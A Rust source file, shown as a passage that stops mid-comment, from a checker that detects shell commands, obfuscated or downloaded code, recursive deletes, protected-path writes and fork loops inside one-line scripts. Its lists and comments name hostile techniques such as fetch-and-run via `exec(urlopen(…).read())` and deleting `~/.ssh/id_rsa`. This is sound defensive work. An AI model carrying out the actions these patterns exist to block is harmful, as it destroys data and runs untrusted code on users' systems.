//! Shell commands inside one-line programs: `python -c "os.system('…')"`,
//! `perl -e 'system("…")'`, `node -e "execSync('…')"`, `ruby -e '`…`'`.
//! The program itself is not shell and is never judged as shell; only the
//! string literals handed to a known shell-running call are.
//!
//! What such a program does by itself is read too ([`effects`]), so that it
//! cannot do through a library call what a BLOCK rule forbids a shell
//! command: a recursive delete (`shutil.rmtree`, `FileUtils.rm_rf`,
//! `fs.rmSync(…, {recursive})`, `File::Path`), a write to a protected path
//! (`open(…, 'a')`, `fs.appendFileSync`, Perl's `open(F, '>>', …)`) and a
//! fork without end. Paths are read only when written out (a literal, the
//! home directory in its usual spellings, and joins of those); a path
//! computed otherwise is not guessed at.

use crate::paths::Write;

/// Calls that run their first argument as a shell command (or an argv list).
const CALLS: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.run",
    "subprocess.call",
    "subprocess.Popen",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "execSync",
    "execFileSync",
    "execFile",
    "spawnSync",
    "spawn",
    "os.execvp",
    "os.execv",
    "os.execlp",
    "os.execl",
    "os.spawnvp",
    "os.spawnlp",
    "pty.spawn",
    "IO.popen",
    "Open3.capture2",
    "Open3.capture3",
    "Open3.popen3",
    "Open3.capture2e",
    "Open3.popen2",
    "Open3.popen2e",
    "Open3.pipeline",
    "commands.getoutput",
    "commands.getstatusoutput",
    "os.posix_spawn",
    "os.posix_spawnp",
    "os.execvpe",
    "os.execve",
    "os.execle",
    "os.execlpe",
    "os.spawnv",
    "os.spawnve",
    "os.spawnvpe",
    "os.spawnl",
    "os.spawnle",
    "os.spawnlpe",
    "Bun.spawn",
    "Bun.spawnSync",
    "Deno.Command",
    "proc_open",
    "os.execute",
    "io.popen",
    "Runtime.getRuntime().exec",
    "Deno.run",
    "shell_exec",
    "passthru",
    "system",
    "exec",
    "popen",
];

/// Ruby's and Perl's quote-like operators that run their text in a shell:
/// `%x(…)`, `qx{…}`, with any delimiter.
const QUOTE_LIKE: &[&str] = &["%x", "qx"];

/// Calls that run their argument as code of the program's own language.
const EVALS: &[&str] = &[
    "eval",
    "exec",
    "Function",
    "runInThisContext",
    "runInNewContext",
];

/// Names of decoders: text that went through one of them is hidden code.
const DECODERS: &[&str] = &[
    "b64decode",
    "b32decode",
    "b16decode",
    "a85decode",
    "b85decode",
    "decodebytes",
    "decodestring",
    "decode64",
    "decode_base64",
    "decode_base32",
    "strict_decode64",
    "urlsafe_decode64",
    "unpack1",
    "unpack(",
    "pack(",
    "fromhex",
    "unhexlify",
    "codecs.decode",
    "rot13",
    "rot_13",
    "atob(",
    "'base64'",
    "\"base64\"",
    "'hex'",
    "\"hex\"",
    "decompress",
    "marshal.loads",
    "pickle.loads",
    "[::-1]",
    "fromCharCode",
    "chr(",
    "base64_decode",
    "str_rot13",
    "gzinflate",
    "hex2bin",
];

/// Names of calls that fetch text over the network: text that went
/// through one of them is a download.
const FETCHERS: &[&str] = &[
    "urlopen",
    "urlretrieve",
    "requests.get",
    "httpx.get",
    "http.get",
    "https.get",
    "fetch(",
    "Net::HTTP",
    "URI.open",
    "open-uri",
    "LWP::Simple",
    "HTTP::Tiny",
    "file_get_contents('http",
    "file_get_contents(\"http",
    "curl_exec",
];

/// A shell-running or code-running call whose argument is not written out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Hidden {
    /// The program decodes text, and this call runs text it computed: the
    /// decoded text, as far as the line shows.
    Decoded(&'static str),
    /// The program fetches text over the network, and this call runs text
    /// it computed (`exec(urlopen(…).read())`).
    Fetched(&'static str),
    /// This shell-running call runs text only known at run time.
    Unknown(&'static str),
}

/// The calls of `code` that run text it computes instead of a literal.
pub(crate) fn hidden_code(code: &str) -> Vec<Hidden> {
    let decodes = DECODERS.iter().any(|d| code.contains(d));
    let fetches = FETCHERS.iter().any(|f| code.contains(f));
    let mut found = Vec::new();
    for call in CALLS.iter().chain(EVALS) {
        let shell = CALLS.contains(call);
        for rest in call_sites(code, call) {
            // A call: `system(…)`, or Perl's and Ruby's `system $cmd`.
            let called = rest.starts_with('(')
                || rest
                    .strip_prefix(' ')
                    .is_some_and(|r| r.trim_start().starts_with(['$', '@']));
            let inside = open_paren(rest).unwrap_or_default();
            if !called || inside.starts_with(')') || arguments(rest).is_some() {
                continue;
            }
            let hidden = if fetches {
                Hidden::Fetched(call)
            } else if decodes {
                Hidden::Decoded(call)
            } else if shell && !matches!(*call, "exec" | "spawn" | "execFile") {
                Hidden::Unknown(call)
            } else {
                continue;
            };
            // `os.system(x)` is also a site of `system`: one report.
            let same = |h: &Hidden| match (h, &hidden) {
                (Hidden::Decoded(a), Hidden::Decoded(b))
                | (Hidden::Fetched(a), Hidden::Fetched(b))
                | (Hidden::Unknown(a), Hidden::Unknown(b)) => {
                    a == b || a.ends_with(&format!(".{b}"))
                }
                _ => false,
            };
            if !found.iter().any(same) {
                found.push(hidden);
            }
        }
    }
    found
}

/// Most strings taken from one program.
const MAX_STRINGS: usize = 32;

/// The shell commands `code` hands to a shell-running call; with
/// `backticks`, also the text between backticks (Perl, Ruby, PHP).
pub(crate) fn shell_strings(code: &str, backticks: bool) -> Vec<String> {
    let mut found = Vec::new();
    for call in CALLS
        .iter()
        .copied()
        .chain(aliases(code).iter().map(String::as_str))
    {
        for rest in call_sites(code, call) {
            // `'system')(…)` is the name as a string, read below.
            if rest.starts_with(['\'', '"', ')', ']']) {
                continue;
            }
            // `os.spawnlp(os.P_WAIT, "rm", …)`: the mode comes first.
            let rest = match call.starts_with("os.spawn") {
                true => open_paren(rest)
                    .and_then(after_first_argument)
                    .unwrap_or(rest),
                false => rest,
            };
            if let Some(words) = arguments(rest)
                && !found.contains(&words)
            {
                found.push(words);
            }
            if found.len() >= MAX_STRINGS {
                return found;
            }
        }
    }
    // A call by its name as a string: `getattr(os, 'system')('…')`,
    // `require('child_process')['execSync']('…')`.
    let mut names: Vec<&str> = CALLS
        .iter()
        .filter_map(|c| c.rsplit('.').next())
        .filter(|n| n.chars().all(|c| c.is_alphanumeric() || c == '_'))
        .collect();
    names.sort_unstable();
    names.dedup();
    for name in names {
        for close in [")(", "](", ")\n(", "] ("] {
            for quote in ['\'', '"'] {
                let pattern = format!("{quote}{name}{quote}{close}");
                for (at, _) in code.match_indices(&pattern).take(MAX_STRINGS) {
                    let rest = code.get(at + pattern.len() - 1..).unwrap_or_default();
                    if let Some(words) = arguments(rest)
                        && !found.contains(&words)
                        && found.len() < MAX_STRINGS
                    {
                        found.push(words);
                    }
                }
            }
        }
    }
    // `import subprocess as s; s.call(['rm', '-rf', x])`: a module under
    // another name, read only when handed an argument vector.
    for method in [
        ".call(",
        ".run(",
        ".Popen(",
        ".check_call(",
        ".check_output(",
    ] {
        let mut from = 0;
        while let Some(at) = code.get(from..).and_then(|r| r.find(method)) {
            let rest = code.get(from + at + method.len()..).unwrap_or_default();
            from += at + method.len();
            let shell = code.contains("shell=True") || code.contains("shell = True");
            if (rest.trim_start().starts_with('[') || shell)
                && let Some(words) = arguments(rest)
                && !found.contains(&words)
                && found.len() < MAX_STRINGS
            {
                found.push(words);
            }
        }
    }
    // zx's and Bun's shell templates: `` $`rm -rf x` ``, `` Bun.$`…` ``.
    for inside in call_sites(code, "$`").filter_map(|rest| rest.split_once('`')) {
        if !inside.0.trim().is_empty() && found.len() < MAX_STRINGS {
            found.push(inside.0.to_owned());
        }
    }
    if !backticks {
        return found;
    }
    for op in QUOTE_LIKE {
        for inside in quote_like(code, op) {
            if !found.contains(&inside) && found.len() < MAX_STRINGS {
                found.push(inside);
            }
        }
    }
    // Perl's and Ruby's `open(F, "cmd |")`, `open(F, "| cmd")`,
    // `open(my $f, "-|", "cmd")`: a pipe to or from a command.
    for rest in call_sites(code, "open") {
        let Some(args) = open_paren(rest) else {
            continue;
        };
        let mut pieces = Vec::new();
        let mut next = Some(args);
        while let Some(text) = next.take().filter(|_| pieces.len() < 3) {
            let text = text.trim_start();
            match literal(text) {
                Some((word, after)) => {
                    pieces.push(Some(word));
                    next = after.trim_start().strip_prefix(',');
                }
                None => {
                    pieces.push(None);
                    next = after_first_argument(text);
                }
            }
        }
        let command = match pieces.as_slice() {
            [_, Some(mode), Some(command), ..] if matches!(mode.trim(), "-|" | "|-") => {
                Some(command.clone())
            }
            [_, Some(pipe)] | [Some(pipe)] => pipe
                .trim()
                .strip_prefix('|')
                .or_else(|| pipe.trim().strip_suffix('|'))
                .map(str::to_owned),
            _ => None,
        };
        if let Some(command) = command.filter(|c| !c.trim().is_empty())
            && !found.contains(&command)
            && found.len() < MAX_STRINGS
        {
            found.push(command);
        }
    }
    // Perl, Ruby and PHP backticks run their content in a shell.
    let mut parts = code.split('`');
    parts.next();
    while let (Some(inside), Some(_)) = (parts.next(), parts.next().or(Some(""))) {
        if !inside.trim().is_empty() && found.len() < MAX_STRINGS {
            found.push(inside.to_owned());
        }
    }
    found
}

/// The text of each `op(…)` in `code` (`%x{…}`, `qx/…/`): any
/// delimiter that is no letter, digit or blank, brackets closed by their
/// pair and counted when nested.
fn quote_like(code: &str, op: &str) -> Vec<String> {
    let mut found = Vec::new();
    for rest in call_sites(code, op) {
        // Inside a string literal it is text: `puts "%x(…) is slow"`.
        let before = code.get(..code.len() - rest.len()).unwrap_or_default();
        if ['"', '\'']
            .iter()
            .any(|q| before.matches(*q).count() % 2 == 1)
        {
            continue;
        }
        let rest = if op == "qx" { rest.trim_start() } else { rest };
        let mut chars = rest.char_indices();
        let Some((_, open)) = chars
            .next()
            .filter(|(_, c)| !c.is_alphanumeric() && !c.is_whitespace() && *c != '_' && *c != ',')
        else {
            continue;
        };
        // `qx => 1` is a hash key, `qx = 1` an assignment.
        if op == "qx" && matches!(open, '=' | ';' | ')') {
            continue;
        }
        let close = match open {
            '(' => ')',
            '{' => '}',
            '[' => ']',
            '<' => '>',
            c => c,
        };
        let mut depth = 0usize;
        let mut inside = String::new();
        let mut escaped = false;
        for (_, c) in chars {
            if escaped {
                inside.push(c);
                escaped = false;
            } else if c == '\\' {
                escaped = true;
                inside.push(c);
            } else if c == close && depth == 0 {
                if !inside.trim().is_empty() {
                    found.push(std::mem::take(&mut inside));
                }
                break;
            } else {
                if c == open && open != close {
                    depth += 1;
                } else if c == close {
                    depth -= 1;
                }
                inside.push(c);
            }
        }
    }
    found
}

/// Shell-running calls the program names otherwise: Node's
/// `const {execSync: run} = require('child_process')`, Python's
/// `from os import system as run`, and `run = require('child_process').execSync`.
fn aliases(code: &str) -> Vec<String> {
    const RUNNERS: &[&str] = &[
        "execSync",
        "exec",
        "spawnSync",
        "spawn",
        "execFileSync",
        "execFile",
        "system",
        "popen",
        "getoutput",
        "check_output",
        "run",
        "call",
        "Popen",
    ];
    let name_end = |t: &str| {
        t.find(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
            .unwrap_or(t.len())
    };
    let mut found = Vec::new();
    for runner in RUNNERS {
        for rest in call_sites(code, runner) {
            let after = rest.trim_start();
            let alias = after
                .strip_prefix(':')
                .or_else(|| after.strip_prefix("as "))
                .map(str::trim_start)
                .map(|t| t.get(..name_end(t)).unwrap_or_default());
            if let Some(alias) = alias.filter(|a| !a.is_empty() && a != runner) {
                found.push(alias.to_owned());
                continue;
            }
            // `x = require('child_process').execSync;`, `s = os.system`.
            let start = code.len() - rest.len() - runner.len();
            let before = code.get(..start).unwrap_or_default();
            let statement = before.rsplit([';', '\n']).next().unwrap_or_default();
            let named_not_called = after.is_empty() || after.starts_with([';', '\n', ',', ')']);
            if before.ends_with('.')
                && named_not_called
                && let Some((left, _)) = statement.split_once('=')
            {
                let left = left.trim_end();
                let at = left
                    .rfind(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
                    .map_or(0, |i| i + 1);
                let name = left.get(at..).unwrap_or_default();
                if !name.is_empty() {
                    found.push(name.to_owned());
                }
            }
        }
    }
    // `from subprocess import run`: the bare names are the calls.
    for (module, names) in [
        (
            "from subprocess import",
            &[
                "run",
                "call",
                "Popen",
                "check_output",
                "check_call",
                "getoutput",
            ][..],
        ),
        (
            "from os import",
            &["system", "popen", "execvp", "execlp", "execv", "execl"][..],
        ),
    ] {
        if code.contains(module) {
            found.extend(names.iter().map(|n| (*n).to_owned()));
        }
    }
    found.retain(|a| !CALLS.contains(&a.as_str()));
    found.sort();
    found.dedup();
    found.truncate(MAX_NAMES);
    found
}

/// Tcl's `exec PROGRAM ARGS…` (also inside `[…]`): its words to the end
/// of the command, as a shell command (Tcl's words are close enough to
/// the shell's; `|` between them is a pipe in both).
pub(crate) fn tcl_commands(code: &str) -> Vec<String> {
    call_sites(code, "exec")
        .filter(|rest| rest.starts_with([' ', '\t']))
        .map(|rest| {
            let end = rest.find([']', ';', '\n']).unwrap_or(rest.len());
            rest.get(..end).unwrap_or_default().trim().to_owned()
        })
        .filter(|c| !c.is_empty() && !c.starts_with('-'))
        .take(MAX_STRINGS)
        .collect()
}

/// The text after each place `call` is named in `code`, as a whole name:
/// `mysystem` is another name, while `os.system` also names `system`.
fn call_sites<'a>(code: &'a str, call: &'a str) -> impl Iterator<Item = &'a str> + 'a {
    let mut from = 0;
    std::iter::from_fn(move || {
        loop {
            let at = code.get(from..)?.find(call)?;
            let start = from + at;
            from = start + call.len();
            let before = code.get(..start).and_then(|b| b.chars().next_back());
            if !before.is_some_and(|c| c.is_alphanumeric() || c == '_') {
                return code.get(from..);
            }
        }
    })
    .take(MAX_STRINGS)
}

/// Something a one-line program does by itself that a BLOCK rule forbids.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Effect {
    /// `call` deletes `path` and everything under it.
    DeleteTree { call: &'static str, path: String },
    /// `call` writes `path`.
    Write {
        call: &'static str,
        path: String,
        write: Write,
    },
    /// `call` makes a link at `path` to `to` (`None` when the text does not
    /// give it): for a symbolic link `to` is read from the link's
    /// directory, for a hard link from where the program runs.
    Link {
        call: &'static str,
        path: String,
        to: Option<String>,
        symbolic: bool,
    },
    /// `call` writes a path the text does not give (`open(p, 'w')`,
    /// `fs.writeFileSync(name, …)`): an unknown write target.
    WriteSomewhere { call: &'static str },
    /// A fork inside a loop that never ends.
    ForkLoop,
}

/// Calls that delete a directory tree, and whether they only do so when
/// the program says `recursive` (Node's `fs.rm`, `fs.rmSync`, `fs.rmdir`).
const TREE_DELETES: &[(&str, bool)] = &[
    // Also `shutil.rmtree` and Perl's `File::Path::rmtree`.
    ("rmtree", false),
    ("remove_tree", false),
    ("rm_rf", false),
    ("rm_r", false),
    ("remove_dir", false),
    ("remove_entry", false),
    ("remove_entry_secure", false),
    ("rimraf", false),
    ("rimraf.sync", false),
    ("rmSync", true),
    ("rm", true),
    ("rmdirSync", true),
    ("rmdir", true),
];

/// Calls that write (or delete) their first argument whatever the mode.
const WRITE_CALLS: &[(&str, Write)] = &[
    ("appendFileSync", Write::Append),
    ("appendFile", Write::Append),
    ("writeFileSync", Write::Replace),
    ("writeFile", Write::Replace),
    ("createWriteStream", Write::Replace),
    ("File.write", Write::Replace),
    ("IO.write", Write::Replace),
    ("os.remove", Write::Remove),
    ("unlinkSync", Write::Remove),
    ("File.delete", Write::Remove),
    ("unlink", Write::Remove),
];

/// What a call of two paths does with them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Pair {
    /// Writes the second.
    Copy,
    /// Writes the second and takes the first away.
    Move,
    /// Makes a link at the second pointing to the first.
    Link { symbolic: bool },
}

/// Calls of two paths: copies, moves, renames and links (Python's
/// `shutil` and `os`, Node's `fs`, Ruby's `FileUtils` and `File`, Perl's
/// built-ins).
const TWO_PATH_CALLS: &[(&str, Pair)] = &[
    ("shutil.copy", Pair::Copy),
    ("shutil.copy2", Pair::Copy),
    ("shutil.copyfile", Pair::Copy),
    ("shutil.copytree", Pair::Copy),
    ("shutil.move", Pair::Move),
    ("os.rename", Pair::Move),
    ("os.replace", Pair::Move),
    ("os.renames", Pair::Move),
    ("copyFileSync", Pair::Copy),
    ("copyFile", Pair::Copy),
    ("cpSync", Pair::Copy),
    ("renameSync", Pair::Move),
    ("FileUtils.cp", Pair::Copy),
    ("FileUtils.cp_r", Pair::Copy),
    ("FileUtils.copy", Pair::Copy),
    ("FileUtils.mv", Pair::Move),
    ("FileUtils.move", Pair::Move),
    ("FileUtils.ln_s", Pair::Link { symbolic: true }),
    ("FileUtils.ln", Pair::Link { symbolic: false }),
    ("File.rename", Pair::Move),
    // Also `os.symlink`, `os.link`, `fs.symlinkSync`, `File.symlink`,
    // Perl's `rename`, `symlink` and `link`.
    ("symlink", Pair::Link { symbolic: true }),
    ("symlinkSync", Pair::Link { symbolic: true }),
    ("linkSync", Pair::Link { symbolic: false }),
    ("link", Pair::Link { symbolic: false }),
    ("rename", Pair::Move),
];

/// Perl's File::Copy calls, read only where the program loads it (their
/// names are too common otherwise).
const FILE_COPY_CALLS: &[(&str, Pair)] = &[("copy", Pair::Copy), ("move", Pair::Move)];

/// The home directory as programs spell it (double quotes are read as
/// single ones).
const HOMES: &[&str] = &[
    "os.path.expanduser('~')",
    "pathlib.Path.home()",
    "Path.home()",
    "os.environ['HOME']",
    "os.environ.get('HOME')",
    "os.getenv('HOME')",
    "require('os').homedir()",
    "os.homedir()",
    "process.env.HOME",
    "process.env['HOME']",
    "Dir.home",
    "ENV['HOME']",
    "ENV.fetch('HOME')",
    "$ENV{HOME}",
    "$ENV{'HOME'}",
];

/// Calls that hand back the path they are given, or the paths joined.
const PATH_WRAPPERS: &[&str] = &[
    "os.path.expanduser(",
    "os.path.join(",
    "os.path.abspath(",
    "pathlib.Path(",
    "Path(",
    "File.expand_path(",
    "File.join(",
    "Pathname.new(",
    "path.join(",
    "path.resolve(",
    "require('path').join(",
    "catfile(",
];

/// Everything `code` does by itself that a BLOCK rule forbids.
pub(crate) fn effects(code: &str) -> Vec<Effect> {
    let mut found = Vec::new();
    let paths = Paths::assigned_in(code);
    let recursive = code.contains("recursive");
    for &(call, needs_recursive) in TREE_DELETES {
        if needs_recursive && !recursive {
            continue;
        }
        for rest in call_sites(code, call) {
            if let Some((path, _)) = open_paren(rest).and_then(|t| paths.expr(t)) {
                found.push(Effect::DeleteTree { call, path });
            }
        }
    }
    for &(call, write) in WRITE_CALLS {
        for rest in call_sites(code, call) {
            match open_paren(rest).and_then(|t| paths.expr(t)) {
                Some((path, _)) => found.push(Effect::Write { call, path, write }),
                None if has_arguments(rest) => found.push(Effect::WriteSomewhere { call }),
                None => {}
            }
        }
    }
    let file_copy = code.contains("File::Copy");
    let two_path = TWO_PATH_CALLS
        .iter()
        .chain(FILE_COPY_CALLS.iter().filter(|_| file_copy));
    for &(call, pair) in two_path {
        for rest in call_sites(code, call) {
            if !has_arguments(rest) {
                continue;
            }
            let Some(args) = open_paren(rest) else {
                continue;
            };
            let source = paths.expr(args);
            let second = match &source {
                Some((_, after)) => after.trim_start().strip_prefix(','),
                None => after_first_argument(args),
            };
            let dest = second.and_then(|t| paths.expr(t.trim_start()));
            let mut push = |path: Option<String>, write| {
                let effect = match path {
                    Some(path) => Effect::Write { call, path, write },
                    None => Effect::WriteSomewhere { call },
                };
                if !found.contains(&effect) {
                    found.push(effect);
                }
            };
            let source = source.map(|(path, _)| path);
            let dest = dest.map(|(path, _)| path);
            match pair {
                Pair::Copy if second.is_some() => push(dest, Write::Replace),
                Pair::Move => {
                    push(source, Write::Remove);
                    if second.is_some() {
                        push(dest, Write::Replace);
                    }
                }
                // A link replaces nothing through itself: the link's own
                // path is written, and what it points to is judged too.
                Pair::Link { symbolic } => match dest {
                    Some(path) => {
                        let effect = Effect::Link {
                            call,
                            path,
                            to: source,
                            symbolic,
                        };
                        if !found.contains(&effect) {
                            found.push(effect);
                        }
                    }
                    None if second.is_some() => push(None, Write::Replace),
                    None => {}
                },
                Pair::Copy => {}
            }
        }
    }
    for rest in call_sites(code, "open") {
        match open_paren(rest).and_then(|t| paths.opened(t)) {
            Some((Some(path), write)) => found.push(Effect::Write {
                call: "open",
                path,
                write,
            }),
            Some((None, _)) if has_arguments(rest) => {
                found.push(Effect::WriteSomewhere { call: "open" });
            }
            _ => {}
        }
    }
    found.extend(paths.method_writes(code));
    // `p.write_text(…)` on a path the text does not give.
    for method in ["write_text", "write_bytes"] {
        let known = found
            .iter()
            .any(|e| matches!(e, Effect::Write { call, .. } if *call == method));
        if !known && code.contains(&format!(".{method}(")) {
            found.push(Effect::WriteSomewhere { call: method });
        }
    }
    if fork_loop(code) {
        found.push(Effect::ForkLoop);
    }
    found.dedup();
    found
}

/// Whether `text`, after a call name, is a parenthesised list of at least
/// one argument: a call, not a mention (`x.copy()`, `renameSync` read as
/// `rename`).
fn has_arguments(text: &str) -> bool {
    text.strip_prefix('(')
        .is_some_and(|inside| !inside.trim_start().starts_with(')'))
}

/// What follows the first argument of a call (`args` starts inside the
/// parenthesis), past its comma; `None` when there is no second argument.
/// Brackets and quotes are skipped whole.
fn after_first_argument(args: &str) -> Option<&str> {
    let mut depth = 0usize;
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for (i, c) in args.char_indices() {
        if let Some(q) = quote {
            if escaped {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == q {
                quote = None;
            }
            continue;
        }
        match c {
            '\'' | '"' | '`' => quote = Some(c),
            '(' | '[' | '{' => depth += 1,
            ')' | ']' | '}' if depth == 0 => return None,
            ')' | ']' | '}' => depth -= 1,
            ',' if depth == 0 => return args.get(i + 1..),
            _ => {}
        }
    }
    None
}

/// `text` after a call name, past an opening parenthesis if there is one
/// (Perl and Ruby may leave it out; what follows is then read as a path or
/// not at all).
fn open_paren(text: &str) -> Option<&str> {
    let rest = text.trim_start();
    Some(rest.strip_prefix('(').unwrap_or(rest).trim_start())
}

/// Most wrappers inside one another, and most parts joined, read in one
/// path: written-out paths are short, and an outside text must not cost
/// more than linear time or deep recursion.
const MAX_PATH_DEPTH: usize = 8;
const MAX_PATH_PARTS: usize = 16;

/// Most names of paths read from one program.
const MAX_NAMES: usize = 16;

/// pathlib's methods that write or delete the path they are called on.
const PATH_METHODS: &[(&str, Write)] = &[
    (".write_text(", Write::Replace),
    (".write_bytes(", Write::Replace),
    (".unlink(", Write::Remove),
    (".touch(", Write::Modify),
    (".rmdir(", Write::Remove),
    (".open(", Write::Modify),
];

/// pathlib's methods that hand back the path they are called on, as far
/// as the protected paths go.
const PATH_STEPS: &[&str] = &[".expanduser()", ".resolve()", ".absolute()"];

/// Reads the paths a one-line program writes out, with the names it gave
/// them (`p = '/'`, `my $p = "/"`, `const p = '/'`).
struct Paths {
    names: Vec<(String, String)>,
}

impl Paths {
    /// The names `code` assigns a written-out path to, in order.
    fn assigned_in(code: &str) -> Self {
        let mut paths = Self { names: Vec::new() };
        for (at, _) in code.match_indices('=') {
            if paths.names.len() >= MAX_NAMES {
                break;
            }
            let before = code.get(..at).unwrap_or_default();
            let after = code.get(at + 1..).unwrap_or_default();
            // `==`, `!=`, `<=`, `>=`, `=>`, `=~`, `+=` are no assignment.
            if before.ends_with(['=', '!', '<', '>', '+', '-', '*', '/'])
                || after.starts_with(['=', '>', '~'])
            {
                continue;
            }
            let before = before.trim_end();
            let name_start = before
                .rfind(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
                .map_or(0, |i| i + 1);
            let name = before.get(name_start..).unwrap_or_default();
            if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) {
                continue;
            }
            if let Some((path, _)) = paths.expr(after.trim_start()) {
                paths.names.push((name.to_owned(), path));
            }
        }
        paths
    }

    /// pathlib's `Path(…)` and `Path.home()` followed by methods:
    /// `Path.home().joinpath('.bashrc').write_text(…)`,
    /// `Path('~/.ssh/id_rsa').expanduser().unlink()`.
    fn method_writes(&self, code: &str) -> Vec<Effect> {
        let mut found = Vec::new();
        for rest in call_sites(code, "Path") {
            let start = code.len() - rest.len() - "Path".len();
            let Some((mut path, mut after)) = code.get(start..).and_then(|t| self.expr(t)) else {
                continue;
            };
            for _ in 0..MAX_PATH_PARTS {
                let text = after.trim_start();
                if let Some(rest) = text.strip_prefix(')') {
                    // `(Path.home() / '.zshrc').open('a')`
                    after = rest;
                } else if let Some(step) = PATH_STEPS.iter().find(|s| text.starts_with(*s)) {
                    after = text.get(step.len()..).unwrap_or_default();
                } else if let Some(inside) = text.strip_prefix(".joinpath(") {
                    let Some((more, rest)) = self.joined(inside.trim_start(), true, 1) else {
                        break;
                    };
                    path = join(&path, &more);
                    after = rest.trim_start().strip_prefix(')').unwrap_or(rest);
                } else {
                    if let Some(&(call, write)) =
                        PATH_METHODS.iter().find(|(m, _)| text.starts_with(m))
                    {
                        let args = text.get(call.len()..).unwrap_or_default().trim_start();
                        let write = match call {
                            ".open(" => literal(args).and_then(|(mode, _)| python_mode(&mode)),
                            _ => Some(write),
                        };
                        if let Some(write) = write {
                            found.push(Effect::Write {
                                call: call.trim_start_matches('.').trim_end_matches('('),
                                path: path.clone(),
                                write,
                            });
                        }
                    }
                    break;
                }
            }
        }
        found
    }

    /// A path written out at the start of `text`, and what follows it: a
    /// literal, the home directory, a path wrapper around those, and joins by
    /// `+` or `/` of those.
    fn expr<'t>(&self, text: &'t str) -> Option<(String, &'t str)> {
        self.joined(text, false, 0)
    }

    /// `path_expr` `depth` wrappers deep; with `commas`, the arguments of a
    /// join call (`os.path.join(A, B)`) are joined too.
    fn joined<'t>(&self, text: &'t str, commas: bool, depth: usize) -> Option<(String, &'t str)> {
        if depth > MAX_PATH_DEPTH {
            return None;
        }
        let (mut path, mut rest) = self.part(text, depth)?;
        for _ in 1..MAX_PATH_PARTS {
            let after = rest.trim_start();
            let next = after
                .strip_prefix(['+', '/'])
                .or_else(|| after.strip_prefix(',').filter(|_| commas));
            let Some(next) = next else {
                break;
            };
            let Some((more, after)) = self.part(next.trim_start(), depth) else {
                break;
            };
            path = join(&path, &more);
            rest = after;
        }
        Some((path, rest))
    }

    /// One literal, home directory or wrapped path at the start of `text`.
    fn part<'t>(&self, text: &'t str, depth: usize) -> Option<(String, &'t str)> {
        if let Some(home) = HOMES.iter().find(|h| starts_with_quotes(text, h)) {
            // A Perl string may go on after `$ENV{HOME}`: "$ENV{HOME}/.bashrc".
            return Some(("~".to_owned(), text.get(home.len()..).unwrap_or_default()));
        }
        if let Some(wrapper) = PATH_WRAPPERS.iter().find(|w| starts_with_quotes(text, w)) {
            let inside = text.get(wrapper.len()..).unwrap_or_default().trim_start();
            let (path, rest) = self.joined(inside, true, depth + 1)?;
            let rest = rest.trim_start();
            return Some((path, rest.strip_prefix(')').unwrap_or(rest)));
        }
        // A name the program gave a path to earlier: `p = '/'; rmtree(p)`.
        if let Some((name, path)) = self.names.iter().find(|(name, _)| {
            text.strip_prefix(name.as_str())
                .is_some_and(|after| !after.starts_with(|c: char| c.is_alphanumeric() || c == '_'))
        }) {
            return Some((path.clone(), text.get(name.len()..).unwrap_or_default()));
        }
        let (word, rest) = literal(text)?;
        // Perl interpolates the home directory into a string.
        let word = match word.strip_prefix("$ENV{HOME}") {
            Some(tail) => format!("~{tail}"),
            None => word,
        };
        Some((word, rest))
    }
}

/// `base` and `more` joined as a path (`'/' + 'x'` and `join('/', 'x')`).
fn join(base: &str, more: &str) -> String {
    if more.starts_with('/') || base.ends_with('/') {
        format!("{base}{more}")
    } else {
        format!("{base}/{more}")
    }
}

/// Whether `text` starts with `prefix`, double quotes read as single ones.
fn starts_with_quotes(text: &str, prefix: &str) -> bool {
    text.get(..prefix.len())
        .is_some_and(|head| head.replace('"', "'") == prefix)
}

impl Paths {
    /// The path an `open(…)` writes, and how: Python's and Ruby's
    /// `open(PATH, MODE)`, Perl's `open(FH, MODE, PATH)` and `open(FH, ">>PATH")`.
    /// `None` when it opens nothing for writing; a path of `None` when
    /// it writes one the text does not give (`open(p, 'w')`).
    fn opened(&self, args: &str) -> Option<(Option<String>, Write)> {
        let python = |path: Option<String>, rest: &str| {
            let rest = rest.trim_start();
            let rest = rest.strip_prefix("mode=").unwrap_or(rest);
            let (mode, _) = literal(rest)?;
            python_mode(&mode).map(|write| (path, write))
        };
        if let Some((path, rest)) = self.expr(args) {
            let rest = rest.trim_start().strip_prefix(',')?;
            return python(Some(path), rest);
        }
        // Perl: a file handle first.
        let (_, rest) = args.split_once(',')?;
        let perl = literal(rest.trim_start()).and_then(|(first, rest)| {
            perl_mode(&first).map(|(mode, tail)| (mode, tail.to_owned(), rest))
        });
        let Some((mode, tail, rest)) = perl else {
            // Python with a path not written out: `open(p, 'w')`.
            return python(None, after_first_argument(args)?);
        };
        let path = match tail.as_str() {
            "" => {
                let rest = rest.trim_start().strip_prefix(',')?.trim_start();
                self.expr(rest).map(|(path, _)| path)
            }
            // `">$f"`: Perl interpolates the variable.
            tail if tail.contains('$') && !tail.starts_with("$ENV{HOME}") => None,
            tail => self
                .part(&format!("'{}'", tail.trim_start()), 0)
                .map(|(path, _)| path),
        };
        Some((path, mode))
    }
}

/// A Python or Ruby mode string: `a` appends, `w` and `x` replace, `+`
/// changes in place; a read leaves the file alone.
fn python_mode(mode: &str) -> Option<Write> {
    if mode.contains('a') {
        Some(Write::Append)
    } else if mode.contains(['w', 'x']) {
        Some(Write::Replace)
    } else if mode.contains('+') {
        Some(Write::Modify)
    } else {
        None
    }
}

/// A Perl mode at the start of `text` (`>>`, `>`, `+<`, `+>`), and what
/// follows it.
fn perl_mode(text: &str) -> Option<(Write, &str)> {
    let text = text.trim_start();
    [
        ("+>>", Write::Append),
        ("+>", Write::Replace),
        ("+<", Write::Modify),
        (">>", Write::Append),
        (">", Write::Replace),
    ]
    .into_iter()
    .find_map(|(mode, write)| text.strip_prefix(mode).map(|rest| (write, rest)))
}

/// A fork inside a loop that never ends: `while True: os.fork()`,
